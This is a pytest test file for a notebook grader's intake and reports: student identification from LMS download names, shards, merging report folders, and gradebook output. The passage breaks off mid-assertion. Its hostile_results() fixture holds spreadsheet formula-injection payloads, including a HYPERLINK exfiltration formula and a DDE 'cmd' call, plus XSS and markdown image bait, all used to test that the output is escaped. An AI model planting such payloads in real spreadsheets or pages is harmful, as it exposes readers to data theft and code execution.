"""Tests of the grader's intake and reports: whose notebook (folders, Canvas and Moodle download
names), which assignment (metadata vs file name), shards, merging shard report folders, report
folders replaced whole (never a user's folder), flags and notes, and the gradebook.

Almost everything runs on synthetic ``Result`` objects, without kernels; one end-to-end test
grades the small fixture in tests/grading/ as two shards and as one run and merges.
"""
from __future__ import annotations

import copy
import csv
import errno
import io
import json
import random
import re
import shutil
from pathlib import Path

import pytest

from dptlearn.course import exercises
from dptlearn.course.grading import grade, reportdir
from dptlearn.course.grading.classfiles import write_class_files
from dptlearn.course.grading.report import (ExerciseResult, Result, gradebook_csv, summary_csv,
                                            summary_md, write_result, write_summaries)
from dptlearn.course.grading.reportdir import (MANIFEST, ReportDirError, fresh_report_dir, merge,
                                               run_manifest, write_manifest)
from dptlearn.course.grading.submissions import (Student, assign_students, find_assignment,
                                                 identify_student, in_shard, original_name,
                                                 parse_shard, report_names, shard_of)
from dptlearn.course.grading.submissions import NAME_BYTES

from grading import crafted


# ----------------------------------------------------------------------------- whose notebook

@pytest.mark.parametrize("path, roots, flat, expected", [
    ("subs/doejane_123_4567_02_rearrange.ipynb", ["subs"], True,                   # Canvas
     Student("doejane", "123", "canvas", folder="subs")),
    ("subs/doejane_LATE_123_4567_02_rearrange.ipynb", ["subs"], True,              # Canvas, late
     Student("doejane", "123", "canvas", late=True, folder="subs")),
    ("subs/Jane Doe_98765_assignsubmission_file_02_rearrange.ipynb", ["subs"], True,  # Moodle
     Student("Jane Doe", source="moodle", folder="subs")),
    ("subs/Jane Doe_98765_assignsubmission_file_/02_rearrange.ipynb", ["subs"], True,  # folder
     Student("Jane Doe", source="moodle", folder="subs/Jane Doe_98765_assignsubmission_file_")),
    ("subs/alice/02_rearrange.ipynb", ["subs"], True, Student("alice", folder="subs/alice")),
    ("subs/alice/week1/02_rearrange.ipynb", ["subs/"], True,                        # nested
     Student("alice", folder="subs/alice")),
    ("subs/alice/02_rearrange.ipynb", ["subs/alice/02_rearrange.ipynb"], True,
     Student("alice", folder="subs/alice")),
    ("subs/alice/02_rearrange.ipynb", ["subs/alice"], True,                         # its folder
     Student("alice", folder="subs/alice")),
    ("class/02_rearrange.ipynb", ["class"], True, Student("class", folder="class")),  # no LMS
    ("subs/alice/doejane_1_2_02_rearrange.ipynb", ["subs"], True,                    # folder wins
     Student("alice", folder="subs/alice")),
    ("subs/eve/alice_1_assignsubmission_file_01.ipynb", ["subs/eve/alice_1_assignsubmission_file_01.ipynb"],
     False, Student("eve", folder="subs/eve")),     # files of several folders: no LMS names
    ("dl/alice_1_assignsubmission_file_01.ipynb", ["dl/alice_1_assignsubmission_file_01.ipynb"],
     True, Student("alice", source="moodle", folder="dl")),   # a flat download, given as files
])
def test_students_from_folders_and_lms_download_names(path, roots, flat, expected):
    assert identify_student(path, roots, flat) == expected


def test_a_download_name_in_a_students_own_folder_claims_nobody():
    """Eve's ``submissions/eve/alice_1_assignsubmission_file_01.ipynb`` given through the shell's
    ``submissions/*/*.ipynb``: her own, in her own sandbox, never Alice's."""
    paths = ["submissions/alice/02_rearrange.ipynb",
             "submissions/eve/alice_1_assignsubmission_file_01_tokens_and_hooks.ipynb",
             "submissions/honest/02_rearrange.ipynb"]
    results = [Result(p, n) for p, n in zip(paths, report_names(paths))]
    assign_students(results, paths)
    assert [r.student for r in results] == ["alice", "eve", "honest"]
    assert len({r.student_key for r in results}) == 3 and all(r.notes == [] for r in results)


def test_two_folders_claiming_one_student_stay_two_students_with_a_note():
    # a download folder names two students or more (one student's names: that student's folder)
    paths = ["week1/alice/01.ipynb", "week2/alice/02.ipynb", "dl/alice_7_1_03.ipynb",
             "dl/alice_7_2_04.ipynb", "dl2/alice_7_3_05.ipynb", "dl/bob_8_4_03.ipynb",
             "dl2/carol_9_5_03.ipynb"]
    results = [Result(p, n) for p, n in zip(paths, report_names(paths))]
    assign_students(results, ["week1", "week2", "dl", "dl2"])
    keys = [r.student_key for r in results]
    assert keys[2] == keys[3] and len(set(keys[:5])) == 4 and len(set(keys)) == 6
    assert results[0].notes == results[1].notes == [
        "two folders claim student 'alice' (week1/alice, week2/alice); each is graded as a "
        "student of its own"]
    assert results[2].notes == results[4].notes == [
        "two folders claim student 'alice' (dl, dl2); each is graded as a student of its own"]
    assert len(gradebook_csv(graded_like(results)).splitlines()) == 1 + 6


def graded_like(results: list[Result]) -> list[Result]:
    for r in results:
        r.assignment, r.exercises = "02_rearrange", [exercise("grid", 1, 1)]
    return results


@pytest.mark.parametrize("name, original", [
    ("doejane_123_4567_02_rearrange.ipynb", "02_rearrange.ipynb"),
    ("doejane_LATE_123_4567_02_rearrange-1.ipynb", "02_rearrange-1.ipynb"),
    ("Jane Doe_98765_assignsubmission_file_02_rearrange.ipynb", "02_rearrange.ipynb"),
    ("02_rearrange.ipynb", "02_rearrange.ipynb"),
    ("03_reassemble-alice.ipynb", "03_reassemble-alice.ipynb"),
])
def test_original_name_drops_the_download_prefix(name, original):
    assert original_name(name) == original


def test_student_keys_group_canvas_by_user_id_and_others_by_name():
    results = [Result("subs/doejane_LATE_123_4_02_x.ipynb", "a"), Result("subs/bob/02.ipynb", "b"),
               Result("subs/janedoe_123_5_03_x.ipynb", "c"), Result("subs/bob/03.ipynb", "d"),
               Result("subs/Bob_7_assignsubmission_file_/02.ipynb", "e")]
    assign_students(results, ["subs"])
    assert [(r.student, r.student_id, r.student_from) for r in results] == \
        [("doejane", "123", "canvas"), ("bob", None, "folder"), ("janedoe", "123", "canvas"),
         ("bob", None, "folder"), ("Bob", None, "moodle")]
    keys = [r.student_key for r in results]
    assert keys[0] == keys[2] and keys[1] == keys[3] and len(set(keys)) == 3
    assert keys[0] == "id:123@subs" and keys[1] == "name:bob@subs/bob"
    assert results[0].notes == ["handed in late (Canvas's download name says LATE)"]
    assert results[1].notes == []


# ----------------------------------------------------------------------------- which assignment

def fake_assignments(*names: str) -> list[exercises.Assignment]:
    return [exercises.Assignment(n, Path(f"solutions/{n}.ipynb"), {"cells": []}, []) for n in names]


def with_metadata(name: str | None) -> dict:
    return {"cells": [], "metadata": {"dptlearn": {"assignment": name}} if name else {}}


def test_metadata_and_file_name_agree():
    a = fake_assignments("02_rearrange", "03_reassemble")
    notes: list[str] = []
    got = find_assignment(with_metadata("02_rearrange"), Path("x/02_rearrange.ipynb"), a, notes)
    assert got is a[0] and notes == []


def test_metadata_wins_over_the_file_name_and_says_so():
    a = fake_assignments("02_rearrange", "03_reassemble")
    notes: list[str] = []
    got = find_assignment(with_metadata("03_reassemble"), Path("x/02_rearrange.ipynb"), a, notes)
    assert got is a[1]
    assert notes == ["graded as 03_reassemble, the assignment named in the notebook's metadata; "
                     "its file name '02_rearrange.ipynb' suggests 02_rearrange"]


def test_missing_metadata_falls_back_to_the_file_name_quietly():
    a = fake_assignments("02_rearrange", "03_reassemble")
    notes: list[str] = []
    assert find_assignment(with_metadata(None), Path("x/03_reassemble-v2.ipynb"), a, notes) is a[1]
    assert find_assignment(None, Path("x/nothing.ipynb"), a, notes) is None
    assert notes == []


def test_unknown_metadata_falls_back_to_the_file_name_with_a_note():
    a = fake_assignments("02_rearrange")
    notes: list[str] = []
    assert find_assignment(with_metadata("99_x"), Path("x/02_rearrange.ipynb"), a, notes) is a[0]
    assert notes == ["the notebook's metadata names assignment '99_x', which does not exist; "
                     "matched 02_rearrange by its file name"]


def test_lms_renamed_files_match_by_metadata_and_by_name():
    """The issue's case: Canvas's doe_123_456_02_rearrange.ipynb was 'no assignment matches'."""
    a = fake_assignments("01_tokens_and_hooks", "02_rearrange")
    canvas = Path("subs/doe_123_456_02_rearrange.ipynb")
    moodle = Path("subs/Jane Doe_9_assignsubmission_file_02_rearrange-1.ipynb")
    for path in (canvas, moodle):
        assert find_assignment(with_metadata("02_rearrange"), path, a) is a[1]
        assert find_assignment(with_metadata(None), path, a) is a[1]


# ----------------------------------------------------------------------------- shards

def class_results(n_students: int = 7, n_assignments: int = 3) -> list[Result]:
    """Synthetic results: students in folders, one Canvas student, one Moodle student."""
    out = []
    names = [f"s{i:02d}" for i in range(n_students - 2)]
    for a in range(n_assignments):
        for s in names:
            out.append(Result(f"subs/{s}/0{a}_x.ipynb", f"{s}__0{a}_x"))
        canvas = f"doejane_55_{900 + a}_0{a}_x"
        out.append(Result(f"subs/{canvas}.ipynb", canvas))
        out.append(Result(f"subs/Jane Roe_{70 + a}_assignsubmission_file_/0{a}_x.ipynb",
                          f"Jane Roe_{70 + a}_assignsubmission_file___0{a}_x"))
    assign_students(out, ["subs"])
    return out


@pytest.mark.parametrize("n", [1, 2, 3, 7, 9])
def test_shards_are_disjoint_cover_everything_and_keep_students_together(n):
    results = class_results()
    shards = [in_shard(results, (k, n)) for k in range(1, n + 1)]
    names = [r.name for s in shards for r in s]
    assert sorted(names) == sorted(r.name for r in results)          # covering, disjoint
    for s in shards:
        others = {r.student_key for t in shards if t is not s for r in t}
        assert not {r.student_key for r in s} & others                 # a student in one shard
    sizes = [len({r.student_key for r in s}) for s in shards]
    assert max(sizes) - min(sizes) <= 1                                # students spread evenly


def test_shards_do_not_depend_on_the_order_of_the_command_line():
    results = class_results()
    shuffled = results[:]
    random.Random(0).shuffle(shuffled)
    for k in (1, 2, 3):
        assert sorted(r.name for r in in_shard(results, (k, 3))) == \
            sorted(r.name for r in in_shard(shuffled, (k, 3)))
    assert shard_of(["b", "a", "c", "a"], 2) == {"a": 1, "b": 2, "c": 1}


@pytest.mark.parametrize("text, message", [
    ("0/3", "expected 1 <= K <= N, got 0/3"),
    ("4/3", "expected 1 <= K <= N, got 4/3"),
    ("1/0", "expected 1 <= K <= N, got 1/0"),
    ("2", "expected K/N with whole numbers, e.g. 2/4, got '2'"),
    ("a/b", "expected K/N with whole numbers, e.g. 2/4, got 'a/b'"),
    ("-1/3", "expected K/N with whole numbers, e.g. 2/4, got '-1/3'"),
    ("²/3", "expected K/N with whole numbers, e.g. 2/4, got '²/3'"),
])
def test_bad_shards_are_refused_with_a_clear_message(text, message, tmp_path, monkeypatch, capsys):
    with pytest.raises(ValueError, match="^" + re.escape(message) + "$"):
        parse_shard(text)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.ipynb").write_text("{}")
    with pytest.raises(SystemExit) as exc:
        grade.main(["x.ipynb", f"--shard={text}"])
    assert exc.value.code == 2 and f"--shard: {message}" in capsys.readouterr().err


def test_good_shards_parse():
    assert parse_shard("1/1") == (1, 1) and parse_shard("3/4") == (3, 4)


# ----------------------------------------------------------------------------- merging

def fixture_assignments() -> list[exercises.Assignment]:
    return exercises.read_assignments(crafted.SOLUTIONS)


def graded(results: list[Result]) -> list[Result]:
    """Give synthetic results of the fixture assignment deterministic, varied scores."""
    (a,) = fixture_assignments()
    for i, r in enumerate(results):
        r.assignment, r.max_score, r.duration_s = a.name, a.max_score, 0.37 * (i % 5)
        r.exercises = [ExerciseResult(ex.id, ex.points if (i + j) % 3 else 0, ex.points,
                                      bool((i + j) % 3), "passed" if (i + j) % 3 else
                                      f"AssertionError: wrong {ex.id}", [])
                       for j, ex in enumerate(a.exercises)]
        if i % 4 == 1:
            r.exercises[0].flags = ["reference", "identical"]
        r.score = sum(e.points for e in r.exercises)
    return results


def write_run(folder: Path, submissions: list[str], results: list[Result],
              shard: tuple[int, int] | None) -> None:
    """What grade() writes, without running notebooks."""
    with fresh_report_dir(folder) as out:
        for r in results:
            write_result(out, r)
        write_class_files(out, results)
        write_manifest(out, run_manifest(fixture_assignments(), submissions, results, shard, 1.0))


def folder_files(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.name != MANIFEST and p.is_file()}


@pytest.fixture
def shard_folders(tmp_path):
    """(one run's folder, [shard folders of 3], submission list)."""
    results = graded(class_results())
    subs = [r.submission for r in results]
    write_run(tmp_path / "one", subs, copy.deepcopy(results), None)
    shards = []
    for k in (1, 2, 3):
        shards.append(tmp_path / f"shard{k}")
        write_run(shards[-1], subs, copy.deepcopy(in_shard(results, (k, 3))), (k, 3))
    return tmp_path / "one", shards, subs


def test_merge_equals_one_run(shard_folders, tmp_path):
    one, shards, _ = shard_folders
    merge(list(reversed(shards)), tmp_path / "merged")
    assert folder_files(tmp_path / "merged") == folder_files(one)
    m1, mm = (json.loads((f / MANIFEST).read_text()) for f in (one, tmp_path / "merged"))
    assert mm["shards"] == [1, 2, 3] and mm["shard_count"] == 3
    assert mm["reports"] == m1["reports"] and mm["solutions"] == m1["solutions"]
    assert "summary.md" in folder_files(one) and "gradebook.csv" in folder_files(one)


def test_merge_through_the_cli(shard_folders, tmp_path, capsys):
    one, shards, _ = shard_folders
    out = tmp_path / "cli"
    assert grade.main(["merge", *map(str, shards), "--report-dir", str(out)]) == 0
    assert folder_files(out) == folder_files(one)
    assert grade.main(["merge", str(shards[0]), "--report-dir", str(out)]) == 2
    assert "shard(s) 2/3, 3/3 missing" in capsys.readouterr().err
    assert folder_files(out) == folder_files(one)          # a failed merge leaves it alone


def edit_manifest(folder: Path, **changes) -> None:
    m = json.loads((folder / MANIFEST).read_text())
    m.update(changes)
    (folder / MANIFEST).write_text(json.dumps(m))


def test_merge_errors(shard_folders, tmp_path):
    one, (s1, s2, s3), _ = shard_folders
    out = tmp_path / "out"

    def fails(folders, text):
        with pytest.raises(ReportDirError) as exc:
            merge(folders, out)
        assert text in str(exc.value), str(exc.value)
        assert not out.exists()

    fails([s1, s2], "shard(s) 3/3 missing")
    fails([s1, s2, s3, s1], "is given twice")
    fails([s1, s2, s3, one], "is a shard of 1 but")
    user = tmp_path / "notes"
    user.mkdir()
    (user / "todo.txt").write_text("mine")
    fails([s1, s2, user], "not a dptlearn report folder (no valid dptlearn-report.json)")
    fails([s1, s2, tmp_path / "nowhere"], "no such folder")
    with pytest.raises(ReportDirError, match="would replace the shard folder"):
        merge([s1, s2, s3], s2)

    twin = tmp_path / "twin"                                # shard 3 graded twice
    shutil.copytree(s3, twin)
    fails([s1, s2, s3, twin], "shard 3/3 is in both")
    edit_manifest(twin, shards=[2])
    fails([s1, twin, s3], "is in both")                     # same submissions in two folders

    edit_manifest(s3, solutions="0" * 64)
    fails([s1, s2, s3], "were graded against different solutions (same assignments")
    edit_manifest(s3, assignments={"01_fixture": 7})
    fails([s1, s2, s3], "assignments that differ: 01_fixture")

    edit_manifest(s3, solutions=json.loads((s1 / MANIFEST).read_text())["solutions"],
                  assignments={"01_fixture": 6}, inputs="1" * 64, input_count=99)
    fails([s1, s2, s3], "were graded from different submission lists")

    edit_manifest(s3, inputs=json.loads((s1 / MANIFEST).read_text())["inputs"])
    name = json.loads((s3 / MANIFEST).read_text())["reports"][0]
    (s3 / f"{name}.junit.xml").unlink()
    fails([s1, s2, s3], f"incomplete report folder, {name}.junit.xml is missing")


# ----------------------------------------------------------------------------- report folders

def test_a_new_run_replaces_the_previous_report_folder_whole(tmp_path):
    results = graded(class_results(4, 1))
    subs = [r.submission for r in results]
    folder = tmp_path / "report"
    write_run(folder, subs, copy.deepcopy(results), None)
    assert (folder / f"{results[0].name}.json").exists()
    write_run(folder, subs[1:], copy.deepcopy(results[1:]), None)
    assert not (folder / f"{results[0].name}.json").exists()      # the old run's file is gone
    assert not (folder / f"{results[0].name}.junit.xml").exists()
    assert json.loads((folder / MANIFEST).read_text())["reports"] == \
        sorted(r.name for r in results[1:])
    assert [p.name for p in tmp_path.iterdir()] == ["report"]     # nothing left beside it


def test_a_crash_leaves_the_previous_report_untouched(tmp_path):
    results = graded(class_results(4, 1))
    folder = tmp_path / "report"
    write_run(folder, [r.submission for r in results], results, None)
    before = folder_files(folder)
    with pytest.raises(RuntimeError):
        with fresh_report_dir(folder) as out:
            (out / "summary.md").write_text("half a run")
            raise RuntimeError("grader crashed")
    assert folder_files(folder) == before
    assert [p.name for p in tmp_path.iterdir()] == ["report"]


def test_leftovers_of_a_killed_run_are_swept_but_nothing_else(tmp_path):
    folder = tmp_path / "report"
    stale = tmp_path / ".report.new-abc"                   # a killed run's staging folder
    stale.mkdir()
    (stale / reportdir.STAGING_MARK).touch()
    lookalike = tmp_path / ".report.new-mine"              # same name pattern, not ours
    lookalike.mkdir()
    (lookalike / "keep.txt").write_text("keep")
    write_run(folder, [], [], None)
    assert not stale.exists() and (lookalike / "keep.txt").read_text() == "keep"


@pytest.mark.parametrize("make", ["user folder", "file", "symlink"])
def test_a_folder_that_is_not_a_report_is_refused_and_untouched(tmp_path, make):
    target = tmp_path / "target"
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.tex").write_text("precious")
    if make == "user folder":
        target.mkdir()
        (target / "thesis.tex").write_text("precious")
    elif make == "file":
        target.write_text("precious")
    else:
        target.symlink_to(mine, target_is_directory=True)
    with pytest.raises(ReportDirError, match=re.escape(f"--report-dir {target}: ")):
        with fresh_report_dir(target):
            raise AssertionError("must not be reached")
    assert (mine / "thesis.tex").read_text() == "precious"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine", "target"]
    if make == "user folder":
        assert [p.name for p in target.iterdir()] == ["thesis.tex"]


def test_a_report_folder_holding_a_users_file_is_refused(tmp_path):
    results = graded(class_results(3, 1))
    folder = tmp_path / "report"
    write_run(folder, [r.submission for r in results], results, None)
    (folder / "my notes.txt").write_text("mine")
    before = folder_files(folder)
    with pytest.raises(ReportDirError, match="also holds files no grading run wrote "
                                             r"\(my notes.txt\)"):
        write_run(folder, [], [], None)
    assert folder_files(folder) == before
    (folder / "my notes.txt").unlink()
    (folder / "feedback" / "grades.xlsx").write_text("mine")       # in the feedback folder too
    with pytest.raises(ReportDirError, match=r"\(feedback/grades.xlsx\)"):
        write_run(folder, [], [], None)
    assert (folder / "feedback" / "grades.xlsx").read_text() == "mine"


def test_a_broken_manifest_or_result_is_a_clear_merge_error(shard_folders, tmp_path):
    _, (s1, s2, s3), _ = shard_folders
    name = json.loads((s2 / MANIFEST).read_text())["reports"][0]
    (s2 / f"{name}.json").write_text("{not json")
    with pytest.raises(ReportDirError, match=re.escape(f"{s2 / name}.json: not a dptlearn "
                                                       "result (JSONDecodeError")):
        merge([s1, s2, s3], tmp_path / "out")
    edit_manifest(s3, reports="all")
    with pytest.raises(ReportDirError, match="not a dptlearn report folder"):
        merge([s1, s3], tmp_path / "out")


def test_the_grader_refuses_a_user_folder_with_exit_2(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    sub = tmp_path / "alice" / f"{crafted.ASSIGNMENT}.ipynb"
    sub.parent.mkdir()
    sub.write_bytes((crafted.SOLUTIONS / f"{crafted.ASSIGNMENT}.ipynb").read_bytes())
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "plan.md").write_text("mine")
    code = grade.main([str(sub), "--solutions", str(crafted.SOLUTIONS), "--report-dir", "docs"])
    err = capsys.readouterr().err
    assert code == 2 and "is not a dptlearn report folder" in err and "refusing" in err
    assert [p.name for p in (tmp_path / "docs").iterdir()] == ["plan.md"]
    assert (tmp_path / "docs" / "plan.md").read_text() == "mine"


# ----------------------------------------------------------------------------- what it says

def exercise(id, points, max_points, message="passed", flags=()) -> ExerciseResult:
    return ExerciseResult(id, points, max_points, points == max_points, message, list(flags))


def teacher_results() -> list[Result]:
    rs = [
        Result("subs/alice/02.ipynb", "alice__02", "02_rearrange", 3, 3,
               [exercise("grid", 3, 3)], student="alice", student_from="folder"),
        Result("subs/alice/03.ipynb", "alice__03", "03_reassemble", 0, 5,
               [exercise("factor", 0, 2, "AssertionError: wrong | factor"),
                exercise("branch", 0, 3, "uses dptlearn.reassemble.Reassemble, the reference "
                         "for this exercise: write your own", ["reference"])],
               student="alice", student_from="folder"),
        Result("subs/doejane_55_1_02.ipynb", "doejane_55_1_02", "02_rearrange", 0, 3,
               [exercise("grid", 0, 3, "AssertionError: token 1", ["forgery"])],
               student="doejane", student_id="55", student_from="canvas",
               notes=["handed in late (Canvas's download name says LATE)"]),
        Result("subs/Jane Roe_7_assignsubmission_file_/03.ipynb", "roe__03", "03_reassemble",
               5, 5, [exercise("factor", 2, 2, flags=["identical"]),
                      exercise("branch", 3, 3)],
               student="Jane Roe", student_from="moodle",
               notes=["graded as 03_reassemble, the assignment named in the notebook's metadata; "
                      "its file name '02.ipynb' suggests 02_rearrange"]),
        Result("subs/Jane Roe_7_assignsubmission_file_/03-again.ipynb", "roe__03-again",
               "03_reassemble", 2, 5, [exercise("factor", 2, 2), exercise("branch", 0, 3, "x")],
               student="Jane Roe", student_from="moodle"),
        Result("subs/bob/junk.ipynb", "bob__junk", None, 0, 0, [],
               "not graded: no assignment matches 'junk.ipynb'", student="bob",
               student_from="folder"),
    ]
    return rs


def test_gradebook_has_one_row_per_student_in_canvas_and_moodle_form():
    rows = list(csv.reader(io.StringIO(gradebook_csv(teacher_results()))))
    assert rows == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "02_rearrange",
         "03_reassemble", "dptlearn total"],
        ["alice", "", "", "alice", "", "3", "0", "3"],
        ["bob", "", "", "bob", "", "", "", "0"],
        ["doejane", "55", "", "", "", "0", "", "0"],
        ["Jane Roe", "", "", "", "", "", "5", "5"],            # best of two hand-ins, no 02
    ]


def test_summary_md_shows_flags_notes_and_errors():
    md = summary_md(teacher_results())
    assert md.index("## 02_rearrange") < md.index("## 03_reassemble") < md.index("## Not graded")
    assert ("| `doejane` | `subs/doejane_55_1_02.ipynb` | `02_rearrange` | **0/3** | "
            "✗ 0/3 ⚑ forgery attempt |") in md                 # a short table: points and flags
    table, messages = md.split("### Messages", 1)[1].split("## 03_reassemble")[1].split("### Messages")
    assert "AssertionError" not in table                        # the messages are below it
    assert ("- `alice`, `subs/alice/03.ipynb`:\n  - `factor` ✗ 0/2: `AssertionError: wrong | factor`"
            in messages)
    assert "- `doejane`, `subs/doejane_55_1_02.ipynb`:\n  - `grid` ✗ 0/3: `AssertionError: token 1` " \
           "⚑ forgery attempt" in md
    assert "✓ 2/2 ⚑ identical to the reference" in md
    assert "- `bob`: `subs/bob/junk.ipynb`: `not graded: no assignment matches 'junk.ipynb'`" in md
    look = md[md.index("## Needs a look"):]
    assert "`subs/doejane_55_1_02.ipynb`: `handed in late" in look
    assert "its file name '02.ipynb' suggests 02_rearrange" in look
    assert ("`subs/alice/03.ipynb`, `branch`: ⚑ reference use (`uses dptlearn.reassemble.Reassemble"
            in look)
    assert "student 'Jane Roe' handed in 03_reassemble 2 times" in look
    assert md.endswith("6 submission(s) of 4 student(s); 0.0 s of notebook run time.\n")


def test_summary_csv_has_student_notes_and_flags_columns():
    rows = list(csv.DictReader(io.StringIO(summary_csv(teacher_results()))))
    assert [r["report"] for r in rows] == ["alice__02", "alice__03", "bob__junk",
                                           "doejane_55_1_02", "roe__03-again", "roe__03"]
    doe = rows[3]
    assert (doe["student"], doe["student_id"], doe["grid:flags"], doe["grid:points"]) == \
        ("doejane", "55", "forgery", "0")
    assert doe["notes"].startswith("handed in late")
    assert rows[1]["branch:flags"] == "reference" and rows[1]["branch:max"] == "3"
    assert rows[2]["error"].startswith("not graded") and rows[2]["grid:points"] == ""


def hostile_results() -> list[Result]:
    """Names and messages a student controls, crafted to be read as formulas or markup."""
    md_bait = ("<img src=x onerror=alert(1)> ![p](https://evil.example/p.png) "
               "[✓ 1/1 passed](https://evil.example) `code` <!-- \\[x](y)")
    return [Result('subs/=HYPERLINK("evil?"&F2,"Jane")_1_assignsubmission_file_02.ipynb', "x",
                   "02_rearrange", 0, 3, [exercise("grid", 0, 3, "+cmd|' /C calc'!A0")],
                   error="-2+3", student='=HYPERLINK("evil?"&F2,"Jane")', student_from="moodle",
                   notes=["@SUM(1)", "\tTAB"]),
            Result("subs/<b>eve</b>/02.ipynb", "eve__02", "02_rearrange", 0, 3,
                   [exercise("grid", 0, 3, md_bait)], student="<b>eve</b> [x](y)",
                   student_from="folder")]


def test_csv_cells_never_start_a_formula():
    for text in (summary_csv(hostile_results()), gradebook_csv(hostile_results())):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    rows = list(csv.DictReader(io.StringIO(summary_csv(hostile_results()))))
    jane = next(r for r in rows if r["report"] == "x")
    assert (jane["student"], jane["grid:message"], jane["error"]) == (
        '\'=HYPERLINK("evil?"&F2,"Jane")', "'+cmd|' /C calc'!A0", "'-2+3")
    assert [r[0] for r in csv.reader(io.StringIO(gradebook_csv(hostile_results())))][1:] == [
        "<b>eve</b> [x](y)", '\'=HYPERLINK("evil?"&F2,"Jane")']


def test_summary_md_shows_untrusted_text_as_plain_text():
    """Every name, path and message is a code span: rendered (CommonMark + GFM tables), nothing in
    it is a tag, a link or an image, and it shows exactly the text."""
    markdown_it = pytest.importorskip("markdown_it")
    md = summary_md(hostile_results())
    html = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(md)
    assert set(re.findall(r"<([a-z0-9]+)", html)) <= {
        "h1", "h2", "h3", "p", "table", "thead", "tbody", "tr", "th", "td", "code", "ul", "li", "strong"}
    assert ("<code>&lt;img src=x onerror=alert(1)&gt; ![p](https://evil.example/p.png) "
            "[✓ 1/1 passed](https://evil.example) `code` &lt;!-- \\[x](y)</code>") in html
    assert "<td><code>&lt;b&gt;eve&lt;/b&gt; [x](y)</code></td>" in html


def test_report_names_are_short_deterministic_and_never_the_graders_own():
    long = "02_rearrange-" + "é" * 300
    names = report_names([f"c/eve/{long}.ipynb", f"c/eve/{long}x.ipynb", "c/eve/dptlearn-report.ipynb",
                          "c/bob/Summary.ipynb", "c/ann/.x.ipynb", "c/x.ipynb", "c/x.ipynb",
                          "c/x-2.ipynb"])
    assert [len(n.encode()) <= NAME_BYTES + 11 for n in names[:2]] == [True, True]
    assert names[0] != names[1] and names[0].startswith("02_rearrange-éé")
    assert names[0] == report_names([f"other/eve/{long}.ipynb"])[0]     # the same on every shard
    assert names[2:] == ["submission-dptlearn-report", "submission-Summary", "submission-.x",
                         "x", "x-2", "x-2-2"]


def test_a_report_name_the_file_system_refuses_costs_only_that_name(tmp_path):
    r = Result("c/eve/a.ipynb", "n" * 300, "02_rearrange", exercises=[exercise("grid", 0, 3, "x")])
    grade.write_reports(tmp_path, r)
    assert r.name.startswith("submission-") and "could not be written" in r.notes[0]
    assert sorted(p.name for p in tmp_path.iterdir()) == [f"{r.name}.json", f"{r.name}.junit.xml"]
    assert json.loads((tmp_path / f"{r.name}.json").read_text())["name"] == r.name


@pytest.mark.parametrize("error, refused", [
    (PermissionError(errno.EACCES, "Permission denied"), False),
    (OSError(errno.ENOSPC, "No space left on device"), False),
    (OSError(errno.ENAMETOOLONG, "File name too long"), True),
])
def test_only_a_refused_name_falls_back_other_write_errors_stop_the_run(tmp_path, monkeypatch, error, refused):
    write_result = grade.write_result

    def failing(report_dir, r):           # fails for the original name only
        if r.name == "eve__a":
            raise error
        write_result(report_dir, r)

    monkeypatch.setattr(grade, "write_result", failing)
    r = Result("c/eve/a.ipynb", "eve__a", "02_rearrange", exercises=[exercise("grid", 0, 3, "x")])
    if not refused:
        with pytest.raises(type(error)) as raised:
            grade.write_reports(tmp_path, r)
        assert raised.value is error and r.name == "eve__a" and r.notes == []
        return
    grade.write_reports(tmp_path, r)
    assert r.name.startswith("submission-") and "File name too long" in r.notes[0]
    assert sorted(p.name for p in tmp_path.iterdir()) == [f"{r.name}.json", f"{r.name}.junit.xml"]


def test_results_round_trip_through_json():
    for r in teacher_results():
        assert Result.from_json(json.loads(json.dumps(r.to_json()))) == r
    old = {"submission": "a.ipynb", "name": "a", "exercises": [
        {"id": "x", "points": 1, "max_points": 1, "passed": True, "message": "passed"}]}
    assert Result.from_json(old).exercises[0].flags == []          # reports from before flags


# ----------------------------------------------------------------------------- end to end

@pytest.mark.slow
def test_shards_and_merge_equal_one_run_on_the_fixture(tmp_path):
    """Grade 3 students (a folder, a Canvas name, a Moodle folder) as 2 shards and as one run.

    (Byte-for-byte equality of merged and one-run files is tested above, on synthetic results.)
    """
    subs = tmp_path / "subs"
    nb = crafted.solution_nb()
    crafted.mistake_grid(nb)
    nb["metadata"]["dptlearn"] = {"assignment": crafted.ASSIGNMENT}     # for homework.ipynb
    for rel in ("alice/01_fixture.ipynb", "doejane_LATE_12_345_01_fixture.ipynb",
                "Jane Roe_9_assignsubmission_file_/homework.ipynb"):
        (subs / rel).parent.mkdir(parents=True, exist_ok=True)
        (subs / rel).write_text(json.dumps(nb))
    args = [str(subs), "--solutions", str(crafted.SOLUTIONS), "--timeout", "30"]
    assert grade.main(args + ["--report-dir", str(tmp_path / "one"), "--jobs", "2"]) == 0
    for k in (1, 2):
        shard = ["--report-dir", str(tmp_path / f"s{k}"), "--shard", f"{k}/2"]
        assert grade.main(args + shard) == 0
    assert grade.main(["merge", str(tmp_path / "s2"), str(tmp_path / "s1"),
                       "--report-dir", str(tmp_path / "merged")]) == 0

    def scores(folder):
        return sorted((json.loads(p.read_text())["student"], json.loads(p.read_text())["score"])
                      for p in folder.glob("*.json") if p.name != MANIFEST)

    assert scores(tmp_path / "one") == [("Jane Roe", 4), ("alice", 4), ("doejane", 4)]
    one, merged = (folder_files(tmp_path / f) for f in ("one", "merged"))
    assert sorted(merged) == sorted(one) and len(one) == 3 * 2 + 4 + 3 * 2   # + feedback/
    assert merged["gradebook.csv"] == one["gradebook.csv"]

    def without_messages(text: bytes) -> list[dict]:   # each run draws its own secret inputs,
        return [{k: v for k, v in row.items() if not k.endswith(":message")}   # so messages
                for row in csv.DictReader(io.StringIO(text.decode()))]       # quote other values
    assert without_messages(merged["summary.csv"]) == without_messages(one["summary.csv"])
    rows = list(csv.reader(io.StringIO((tmp_path / "merged" / "gradebook.csv").read_text())))
    assert rows[1:] == [["alice", "", "", "alice", "", "4", "4"],
